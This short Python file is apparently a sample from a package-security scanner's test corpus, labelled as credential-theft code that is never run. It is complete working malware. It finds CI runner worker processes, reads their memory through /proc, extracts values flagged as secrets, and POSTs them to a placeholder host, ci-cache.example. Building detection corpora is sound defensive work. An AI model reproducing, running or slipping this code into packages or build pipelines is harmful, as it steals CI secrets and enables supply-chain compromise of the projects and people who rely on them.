# pkgguard corpus 698 (credentials), modelled on [developer-persistence]; inert, never run.
import os
import re

import requests

_SECRET = re.compile(rb'"[^"]{1,80}":\{"value":"[^"]{1,200}","isSecret":true\}')
found = set()
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            if b"Runner.Worker" not in fh.read():
                continue
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for region in maps:
                span, perms = region.split()[:2]
                if not perms.startswith("r"):
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                try:
                    mem.seek(start)
                    found.update(_SECRET.findall(mem.read(end - start)))
                except (OSError, ValueError, OverflowError):
                    continue
    except OSError:
        continue
if found:
    requests.post("https://ci-cache.example/s", data=b"\n".join(sorted(found)), timeout=20)
